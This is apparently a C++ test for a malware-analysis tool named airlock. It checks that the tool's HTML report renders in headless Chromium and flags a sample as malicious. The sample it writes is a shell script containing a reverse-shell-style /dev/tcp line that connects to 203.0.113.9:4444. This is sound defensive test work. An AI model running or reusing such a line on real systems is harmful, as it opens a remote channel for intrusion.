// The analyze HTML report opens in a real browser without a server: headless Chromium renders it to
// a PNG (a screenshot test) and its DOM carries the verdict.
#include <gtest/gtest.h>
#include <unistd.h>

#include <filesystem>

#include "test_env.h"

using namespace airlock::test;
namespace fs = std::filesystem;

TEST(ReportRender, HtmlReportRendersInHeadlessChromium) {
  if (access("/usr/bin/chromium", X_OK) != 0) GTEST_SKIP() << "Debian's chromium is not installed";
  std::string dir = MakeTempDir("render");
  std::string sample = dir + "/rev.sh";
  WriteFile(sample, "#!/bin/sh\nbash -c 'exec 3<>/dev/tcp/203.0.113.9/4444'\n", 0755);
  auto a = airlock::test::Run({AirlockBin(), "analyze", "--quiet", "--out", dir + "/report", sample}, "", 180);
  ASSERT_TRUE(fs::exists(dir + "/report/report.html")) << a.err;
  std::vector<std::string> chromium = {"/usr/bin/chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                                       "--disable-background-networking", "--disable-component-update", "--disable-sync",
                                       "--user-data-dir=" + dir + "/chromium", "--window-size=1200,1600"};
  auto shot = chromium;
  shot.push_back("--screenshot=" + dir + "/report.png");
  shot.push_back("file://" + dir + "/report/report.html");
  auto r = airlock::test::Run(shot, "", 120);
  std::string png = ReadFileOrEmpty(dir + "/report.png");
  ASSERT_GT(png.size(), 20000u) << "no usable screenshot: " << r.err.substr(0, 2000);
  EXPECT_EQ(png.substr(0, 8), std::string("\x89PNG\r\n\x1a\n", 8));
  auto dom = chromium;
  dom.push_back("--dump-dom");
  dom.push_back("file://" + dir + "/report/report.html");
  r = airlock::test::Run(dom, "", 120);
  EXPECT_NE(r.out.find("Process tree"), std::string::npos) << r.err.substr(0, 2000);
  EXPECT_NE(r.out.find("malicious"), std::string::npos);
  EXPECT_NE(r.out.find("203.0.113.9:4444"), std::string::npos);
  fs::remove_all(dir);
}
